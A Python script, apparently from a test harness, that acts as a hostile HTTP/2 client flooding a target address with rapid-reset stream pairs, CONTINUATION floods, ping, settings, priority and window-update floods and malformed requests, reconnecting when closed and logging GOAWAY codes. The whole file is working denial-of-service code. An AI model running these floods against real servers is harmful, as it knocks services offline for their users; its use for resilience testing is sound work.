#!/usr/bin/env python3
"""One client that means harm, as a process of its own: says one kind of thing as fast as it can, and comes again when it is closed.

Usage: h2_flood.py KIND ADDRESS OUTPUT [--frames N]   until N frames were sent, or SIGTERM. OUTPUT has JSON, written anew when the first
                    frames are sent, after each connection, and at the end:
                    {"frames": sent, "connections": made, "closed": by the other side, "codes": {GOAWAY's code: count}}
       h2_flood.py sink PORTS_FILE                    reads from everybody and says nothing: what a flood costs without a router
"""
import argparse
import json
import os
import pathlib
import signal
import socket
import sys
import threading

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))

from harness import h2_raw as h2  # noqa: E402

AT_ONCE = 200  # frames, or pairs of them, in one send


def requests_and_resets():
    block = h2.block(h2.request())
    head, tail = len(block).to_bytes(3, "big") + bytes([h2.HEADERS, h2.END_STREAM | h2.END_HEADERS]), b"\0\0\4\3\0"
    stream = 1
    while stream < h2.MAX_WINDOW - 2 * AT_ONCE:
        parts = []
        for number in range(stream, stream + 2 * AT_ONCE, 2):
            name = number.to_bytes(4, "big")
            parts += [head, name, block, tail, name, b"\0\0\0\x08"]
        stream += 2 * AT_ONCE
        yield b"".join(parts)


def malformed_requests():
    stream = 1
    while stream < h2.MAX_WINDOW - 2 * AT_ONCE:
        yield b"".join(h2.headers(number, h2.request(more=[("X-Upper", "a")])) for number in range(stream, stream + 2 * AT_ONCE, 2))
        stream += 2 * AT_ONCE


def again(frame, first=b""):
    yield first
    while True:
        yield frame * AT_ONCE


OPEN = h2.headers(1, h2.request("POST"), end=False)
KINDS = {
    "rapid_reset": requests_and_resets,
    "malformed": malformed_requests,
    "continuation": lambda: again(h2.frame(h2.CONTINUATION, 0, 1, b"\0\1x\1y"), h2.headers(1, end_headers=False)),
    "empty_continuation": lambda: again(h2.frame(h2.CONTINUATION, 0, 1), h2.headers(1, end_headers=False)),
    "settings": lambda: again(h2.settings((h2.INITIAL_WINDOW_SIZE, 65535))),
    "ping": lambda: again(h2.ping()),
    "priority": lambda: again(h2.priority(1)),
    "window_update": lambda: again(h2.window(0, 1)),
    "empty_data": lambda: again(h2.data(1, b"", end=False), OPEN),
}


class Flood:
    def __init__(self, kind, address, output, frames):
        self.kind, self.output, self.limit = kind, output, frames
        host, _, port = address.rpartition(":")
        self.address = (host, int(port))
        self.over = False
        self.seen = {"frames": 0, "connections": 0, "closed": 0, "codes": {}}

    def run(self):
        while not self.over and self.seen["frames"] < self.limit:
            try:
                connection = socket.create_connection(self.address, timeout=10)
            except OSError:
                continue
            self.seen["connections"] += 1
            self.one(connection)
            connection.close()
            write(self.output, self.seen)

    def one(self, connection):
        pieces = KINDS[self.kind]()
        try:
            connection.sendall(h2.PREFACE + h2.settings())
            for piece in pieces:
                if self.over:
                    return
                if self.seen["frames"] >= self.limit:
                    self.seen["closed"] += self.note(connection, 5)  # all was said before we were closed
                    return
                connection.sendall(piece)
                if self.seen["frames"] == 0:
                    write(self.output, self.seen)
                self.seen["frames"] += AT_ONCE if piece else 0
        except OSError:
            self.seen["closed"] += 1
        self.note(connection)

    def note(self, connection, seconds=0.2):
        """Reads what is there. True when the other end has closed."""
        received, closed = b"", True
        try:
            connection.settimeout(seconds)
            while piece := connection.recv(1 << 20):
                received += piece
        except TimeoutError:
            closed = False
        except OSError:
            pass
        at = 0
        while at + 9 <= len(received):
            size = int.from_bytes(received[at:at + 3], "big")
            if received[at + 3] == h2.GOAWAY and at + 17 <= len(received):
                code = str(int.from_bytes(received[at + 13:at + 17], "big"))
                self.seen["codes"][code] = self.seen["codes"].get(code, 0) + 1
            at += 9 + size
        return closed


def write(path, value):
    path = pathlib.Path(path)
    new = path.with_suffix(".new")
    new.write_text(json.dumps(value))
    os.replace(new, path)


def drink(connection):
    try:
        while connection.recv(1 << 20):
            pass
    except OSError:
        pass
    connection.close()


def sink(ports_file):
    with socket.create_server(("127.0.0.1", 0), backlog=256) as server:
        write(ports_file, {"address": "127.0.0.1:%d" % server.getsockname()[1]})
        while True:
            threading.Thread(target=drink, args=(server.accept()[0],), daemon=True).start()


def main():
    if sys.argv[1] == "sink":
        sink(sys.argv[2])
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=sorted(KINDS))
    parser.add_argument("address")
    parser.add_argument("output")
    parser.add_argument("--frames", type=int, default=1 << 60)
    options = parser.parse_args()
    flood = Flood(options.kind, options.address, options.output, options.frames)

    def stop(*_):
        flood.over = True
    signal.signal(signal.SIGTERM, stop)
    flood.run()
    write(options.output, flood.seen)


if __name__ == "__main__":
    main()
